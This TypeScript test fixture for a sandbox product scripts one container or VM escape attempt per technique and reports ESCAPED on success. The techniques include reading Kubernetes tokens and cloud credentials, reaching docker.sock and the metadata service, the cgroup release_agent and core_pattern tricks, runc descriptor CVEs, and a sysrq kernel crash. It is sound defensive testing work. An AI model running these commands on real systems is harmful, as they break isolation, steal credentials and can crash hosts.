/**
 * Ways out of a sandbox that the public escape benchmarks try (SECURITY.md, F and S), one scripted attempt each, for every
 * substrate. A script says `ESCAPED` and how when it got through, and `tried` at its end; what it could not say is looked at from
 * outside: a flag, sockets, a process, files and settings of the machine (test/fixtures/escape-host.ts).
 */

/** What the machine has that nobody inside may reach. */
export interface Prize {
  /** A file only its owner may read, and what stands in it. */
  flagPath: string;
  flag: string;
  /** A path of the machine that must not come into being. */
  marker: string;
  /** A listening unix socket, its abstract twin's name, and TCP ports of the machine by address. */
  socketPath: string;
  abstractName: string;
  addresses: readonly { host: string; port: number }[];
  /** A process of the machine with the flag in its environment. */
  pid: number;
  /** Major and minor number of the disk the machine's files are on. */
  disk: readonly [number, number];
}

export interface Escape {
  id: string;
  /** The class of the benchmarks it stands for. */
  scenario: string;
  script: (prize: Prize) => string;
  /** May also be run outside of any sandbox, where it must get through: proof that it would be noticed. */
  provable?: true;
}

const up = '/..'.repeat(12);
const connects = (family: string, address: string): string =>
  `python3 -c "import socket; s = socket.socket(socket.${family}, socket.SOCK_STREAM); s.settimeout(3); s.connect(${address}); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('ESCAPED connected', s.recv(100))"`;

export const escapes: readonly Escape[] = [
  // ---- orchestration
  {
    id: 'service-account',
    scenario: 'orchestration: a token or the environment of whoever started the sandbox',
    provable: true,
    script: () => `cat /var/run/secrets/kubernetes.io/serviceaccount/token /root/.kube/config && echo ESCAPED token
env | grep -E "^(KUBERNETES_|AWS_|HOLDFAST_ESCAPE)" && echo ESCAPED environment`,
  },
  {
    id: 'control-sockets',
    scenario: 'orchestration and engine: docker.sock and its kind, by path and in the abstract name space',
    provable: true,
    script: ({
      socketPath,
      abstractName,
    }) => `for path in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/crio/crio.sock /run/podman/podman.sock; do
  [ ! -S $path ] || echo ESCAPED $path
done
${connects('AF_UNIX', `'${socketPath}'`)}
${connects('AF_UNIX', `'\\0${abstractName}'`)}`,
  },
  {
    id: 'host-ports',
    scenario: 'orchestration: ports of the machine, its kubelet, engine and metadata service',
    provable: true,
    script: ({ addresses }) =>
      [
        ...addresses.map(({ host, port }) => `('${host}', ${port})`),
        "('169.254.169.254', 80)",
        "('192.168.65.7', 2375)",
        "('127.0.0.1', 10250)",
      ]
        .map((address) => `timeout 10 ${connects('AF_INET', address)}`)
        .join('\n'),
  },
  // ---- engine and runtime
  {
    id: 'host-mounts',
    scenario: 'engine: directories of the machine among the mounts, and ways around the root',
    provable: true,
    script: ({
      flagPath,
      marker,
    }) => `for root in "" /host /mnt /rootfs /proc/1/root /proc/self/root /proc/self/cwd${up}; do
  cat $root${flagPath}; (: > $root${marker})
done
for fd in /proc/self/fd/* /proc/1/fd/*; do cat $fd${up}${flagPath}; (: > $fd${up}${marker}); done
[ -e ${flagPath} ] || find / -maxdepth 4 -name "$(basename ${flagPath})" -not -path "/proc/*/task/*" -exec cat {} +`,
  },
  {
    id: 'privileged-devices',
    scenario: 'engine: a privileged container: the disk of the machine, its memory, its console',
    script: ({
      disk: [major, minor],
      flagPath,
    }) => `mknod /tmp/disk b ${major} ${minor} && head -c 4096 /tmp/disk >/dev/null && echo ESCAPED disk
mount -t ext4 /dev/vda /mnt && cat /mnt${flagPath}
for device in /dev/mem /dev/kmem /dev/port /dev/kvm /dev/kmsg /dev/sda /dev/nvme0n1 /dev/loop-control /dev/fuse /dev/net/tun /dev/vhost-net /dev/vhost-vsock /dev/dri/card0; do
  head -c 1 $device >/dev/null && echo ESCAPED $device
done`,
  },
  {
    id: 'capabilities',
    scenario: 'engine: CAP_SYS_ADMIN, CAP_SYS_PTRACE, CAP_DAC_READ_SEARCH, CAP_SYS_MODULE and any other',
    script:
      () => `grep -E "^Cap(Inh|Prm|Eff|Amb)" /proc/self/status | grep -v 0000000000000000 && echo ESCAPED capabilities
grep "^NoNewPrivs:.1" /proc/self/status || echo ESCAPED no_new_privs`,
  },
  {
    id: 'shared-processes',
    scenario: 'engine: the process namespace of the machine, ptrace, and what stands in environments',
    provable: true,
    script: ({ pid }) => `(tr "\\0" "\\n" < /proc/${pid}/environ)
cat /proc/${pid}/root/etc/hostname && echo ESCAPED root
nsenter -t ${pid} -m -p true && echo ESCAPED nsenter
for process in /proc/[0-9]*; do (tr "\\0" "\\n" < $process/environ) 2>/dev/null; done | grep -a ^FLAG=
kill -0 ${pid} && echo ESCAPED signal`,
  },
  {
    id: 'core-pattern',
    scenario: 'engine: writable /proc: a core handler, a module loader, a hot-plug helper of the machine',
    script: ({ marker }) => `printf '#!/bin/sh\\ntouch ${marker}\\n' > /tmp/helper; chmod +x /tmp/helper
for place in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /sys/kernel/uevent_helper /proc/sys/fs/binfmt_misc/register /proc/sys/kernel/hotplug; do
  (echo "|/tmp/helper" > $place) && echo ESCAPED $place
done
mount -t proc none /mnt && (echo "|/tmp/helper" > /mnt/sys/kernel/core_pattern) && echo ESCAPED mounted
sh -c 'ulimit -c unlimited; kill -SEGV $$'; printf '\\377\\377\\377\\377' > /tmp/odd; chmod +x /tmp/odd; /tmp/odd`,
  },
  {
    id: 'sysrq',
    scenario: 'engine: the kernel told to crash',
    script: () => `for place in /proc/sysrq-trigger; do (echo c > $place) && echo ESCAPED $place; done`,
  },
  {
    id: 'release-agent',
    scenario: 'engine and kernel: a control group with a release agent of the machine (CVE-2022-0492)',
    script: ({ marker }) => `mkdir -p /tmp/group
for kind in rdma memory cpu freezer misc; do
  mount -t cgroup -o $kind none /tmp/group && echo /tmp/helper > /tmp/group/release_agent && echo ESCAPED v1 $kind
done
unshare -UrCm sh -c "mount -t cgroup -o rdma none /tmp/group && echo 'touch ${marker}' > /tmp/group/release_agent && echo ESCAPED namespaced"
mount -t cgroup2 none /tmp/group && echo 0 > /tmp/group/cgroup.procs && echo ESCAPED v2
find /sys/fs/cgroup -name release_agent -writable -exec sh -c 'echo /tmp/helper > "$1" && echo ESCAPED $1' _ {} \\;`,
  },
  {
    id: 'leaked-descriptors',
    scenario:
      'runtime: descriptors and directories left open by the runtime (CVE-2024-21626), its program rewritten (CVE-2019-5736)',
    script: ({ flagPath, marker }) => `for fd in 3 4 5 6 7 8 9 10 16 17 18 19 20; do
  (cd /proc/self/fd/$fd${up} 2>/dev/null && cat .${flagPath}; : > .${marker})
  (cd /proc/1/fd/$fd 2>/dev/null && cat ../../../../..${flagPath})
done
for place in /proc/1/exe /proc/1/mem /run/holdfast/agent; do (printf x >> $place) && echo ESCAPED $place; done
ln -sf /proc/self/fd/8${up}${flagPath} /tmp/link; cat /tmp/link`,
  },
  {
    id: 'masked-paths',
    scenario: 'runtime: what was covered in /proc uncovered or replaced (CVE-2025-31133, -52565, -52881)',
    script: () => `umount /proc && echo ESCAPED umount
mv /proc /gone && echo ESCAPED moved
ln -sf /proc/sysrq-trigger /dev/console
mount --bind /dev/null /proc/self/attr/exec && echo ESCAPED bind
mount -t proc proc /tmp/group && cat /tmp/group/1/environ && echo ESCAPED proc`,
  },
  {
    id: 'modules',
    scenario: 'engine and kernel: a module of the guest in the kernel of the machine',
    script: () => `printf '\\177ELF' > /tmp/module.ko
for way in "insmod /tmp/module.ko" "modprobe dummy" "rmmod dummy"; do $way && echo ESCAPED $way; done
ls /lib/modules/*/kernel >/dev/null && cat /proc/modules | head -1 && echo ESCAPED modules`,
  },
  // ---- kernel
  {
    id: 'namespaces',
    scenario:
      'kernel: user namespaces as the door to file systems and packets (CVE-2022-0185, CVE-2023-0386, nf_tables)',
    script: ({
      flagPath,
      marker,
    }) => `unshare -Urm sh -c 'mount -t tmpfs none /mnt && mount --bind / /mnt && cat /mnt${flagPath}; : > /mnt${marker}'
unshare -Urn sh -c 'nft list ruleset >/dev/null && echo ESCAPED nft'
unshare -Urm sh -c 'mount -t overlay -o lowerdir=/etc,upperdir=/tmp/u,workdir=/tmp/w none /mnt && cat /mnt${flagPath}'
chroot / true && echo ESCAPED chroot`,
  },
  {
    id: 'packets',
    scenario: 'kernel: packet and raw sockets (CVE-2017-7308, CVE-2020-14386), and the hypervisor by vsock',
    script: () => `python3 - <<'END'
import socket
for name, family, kind, protocol in (('packet', 17, 3, 0), ('raw', 2, 3, 255), ('netlink', 16, 3, 12), ('alg', 38, 5, 0), ('can', 29, 3, 1), ('xdp', 44, 3, 0)):
    try:
        socket.socket(family, kind, protocol)
        print('ESCAPED', name)
    except OSError as error:
        print(name, error)
for cid in (0, 1, 2):
    for port in (22, 1024, 2024, 5001, 9999):
        try:
            s = socket.socket(40, 1, 0)
            s.settimeout(1)
            s.connect((cid, port))
            print('ESCAPED vsock', cid, port)
        except (OSError, TypeError) as error:
            pass
END`,
  },
  {
    id: 'read-only-pages',
    scenario:
      'kernel: files that are only to be read written to (Dirty COW, Dirty Pipe): their pages are the machine’s',
    script: () => `for path in /usr/bin/true /usr/bin/sh /etc/passwd; do
  (printf x >> $path) && case $path in /usr/*) [ -w /usr ] || echo ESCAPED $path;; esac
done
python3 - <<'END'
import mmap, os
for path in ('/usr/bin/true', '/run/holdfast/hostname'):
    for flags in (os.O_RDWR, os.O_RDONLY):
        try:
            fd = os.open(path, flags)
            page = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
            page[0] = page[0]
            if path.startswith('/run'): print('ESCAPED', path)
        except (OSError, ValueError) as error:
            print(path, error)
END`,
  },
  {
    id: 'hypervisor',
    scenario: 'hypervisor: shared folders, firmware tables, channels and ports of the machine around a guest',
    script: ({
      flagPath,
    }) => `for kind in 9p virtiofs vboxsf hgfs; do mount -t $kind host /mnt && cat /mnt${flagPath} && echo ESCAPED $kind; done
ls /sys/firmware/qemu_fw_cfg/by_name && echo ESCAPED fw_cfg
for port in /dev/vport*; do [ ! -e $port ] || { (printf x > $port) && echo ESCAPED $port; }; done
for place in /dev/ttyS0 /dev/hvc0 /dev/console; do [ ! -c $place ] || { (printf x > $place) && echo ESCAPED $place; }; done`,
  },
];
